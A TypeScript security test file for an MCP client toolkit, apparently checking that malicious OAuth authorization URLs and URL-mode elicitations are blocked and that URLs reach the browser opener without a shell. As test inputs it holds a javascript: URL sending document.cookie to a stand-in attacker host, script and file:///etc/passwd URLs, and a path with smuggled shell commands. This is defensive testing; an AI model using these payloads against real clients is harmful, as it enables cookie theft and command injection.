/**
 * Threat: OAuth Authorization URL Validation (security best practices). A malicious server
 * hands the client a URL to open (its authorization endpoint, or a URL-mode elicitation): a
 * `javascript:`, `data:`, `file:` or `vbscript:` URL runs script or reads files; a URL
 * handed to a shell runs commands.
 *
 * Defence: every authorization URL is checked before it is shown or opened (an allowlist:
 * https, or http on loopback); the browser is started without a shell, the URL as one
 * argument; URL-mode elicitations that are not plain http(s) are declined before the host's
 * UI or opener sees them.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { McpServer } from '../server/index.js';
import { serve } from '../serve/index.js';
import { makeHost } from '../test-support/host-harness.js';
import { startCli } from '../test-support/cli-process.js';
import { closeAfterEach, fakeOpener, startProtected } from '../test-support/oauth-attacks.js';
import { waitFor } from '../test-support/waiting.js';

const later = closeAfterEach();
const POSIX = process.platform !== 'win32';
const tempDir = (): string => mkdtempSync(join(tmpdir(), 'mcpkit-url-'));

/** `mcpkit login` as a user runs it, with a fake browser opener first on PATH. */
function login(url: string, opener: { dir: string }) {
  const env = {
    ...process.env,
    MCPKIT_CREDENTIALS: join(tempDir(), 'credentials.json'),
    PATH: `${opener.dir}:/usr/bin:/bin`,
  };
  const cli = startCli(['login', '--url', url], { env });
  later(() => cli.stop());
  return cli;
}

describe(
  'authorization URL validation',
  { skip: !POSIX && 'the fake browser opener is a shell script' },
  () => {
    for (const endpoint of [
      'javascript:fetch("https://evil.example/?"+document.cookie)',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'vbscript:msgbox(1)',
    ]) {
      it(`mcpkit login never shows or opens the authorization endpoint ${endpoint.slice(0, 16)}…`, async () => {
        const { as, mcp } = await startProtected(later, {
          metadata: (m) => ({ ...m, authorization_endpoint: endpoint }),
        });
        const opener = fakeOpener(tempDir());
        const cli = login(mcp.url, opener);
        assert.equal(await cli.exited, 3, cli.out.stderr);
        assert.match(cli.out.stderr, /Sign-in failed: .*scheme is not allowed/);
        assert.doesNotMatch(cli.out.stderr, /Open this URL/);
        assert.equal(cli.out.stderr.includes(endpoint.slice(endpoint.indexOf(':') + 1)), false);
        assert.deepEqual(opener.runs(), []);
        assert.equal(as.count('/register'), 0);
      });
    }

    it('mcpkit login opens a URL full of shell syntax as one argument, without a shell', async () => {
      const dir = tempDir();
      const markers = ['m1', 'm2', 'm3', 'm4'].map((m) => join(dir, m));
      // In the issuer's path, where a URL keeps these characters as they are (a query string
      // would percent-encode them). `$IFS` is a space to a shell.
      const hostile =
        `/t$(touch$IFS${markers[0]});touch$IFS${markers[1]}|touch$IFS${markers[2]}` +
        `&&touch$IFS${markers[3]};x`;
      const { mcp } = await startProtected(later, { issuerPath: hostile });
      const opener = fakeOpener(dir);
      const cli = login(mcp.url, opener);
      const shown = await cli.printed('stderr', /Open this URL to authorize:\s+(\S+)/);
      assert.ok(shown.includes(hostile), 'the shell syntax reached the URL unchanged');
      const runs = await waitFor(() => (opener.runs().length > 0 ? opener.runs() : undefined));
      assert.deepEqual(runs, [[shown]], 'one run, the URL as its only argument');
      for (const m of markers) assert.equal(existsSync(m), false, `nothing ran: ${m}`);
      // The user finishes signing in: the URL worked as a URL.
      const answer = await fetch(shown, { redirect: 'manual' });
      assert.equal((await fetch(answer.headers.get('location')!)).status, 200);
      assert.equal(await cli.exited, 0, cli.out.stderr);
    });

    it('a server’s URL-mode elicitation with a dangerous scheme never reaches the user or the opener', async () => {
      const server = new McpServer({ name: 'hostile', version: '1.0.0' });
      server.tool(
        {
          name: 'visit',
          input: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] },
        },
        async (args, ctx) => {
          const answer = await ctx.elicit({ mode: 'url', message: 'Please sign in', url: String(args.url) });
          return answer.action;
        },
      );
      const running = await serve(server, { port: 0 });
      later(async () => {
        await running.close();
        await server.close();
      });
      const opened: string[] = [];
      const { host, ui } = makeHost(
        { hostile: { url: running.url } },
        { answers: { confirmUrl: true }, openUrl: async (u) => void opened.push(u) },
      );
      later(() => host.close());
      await host.start();
      const visit = async (url: string): Promise<string> => {
        const r = await host.callTool('hostile__visit', { url });
        const first = r.content[0];
        return first?.type === 'text' ? first.text : '';
      };
      for (const url of ['javascript:alert(1)', 'data:text/html,<script>1</script>', 'file:///etc/passwd']) {
        assert.equal(await visit(url), 'decline', url);
      }
      assert.deepEqual(opened, []);
      assert.equal(
        ui.asked.some((q) => q.kind === 'confirmUrl'),
        false,
        'the user is not even asked',
      );
      // The same path does open a plain https URL once the user agrees.
      assert.equal(await visit('https://auth.example.com/sign-in'), 'accept');
      assert.deepEqual(opened, ['https://auth.example.com/sign-in']);
    });
  },
);
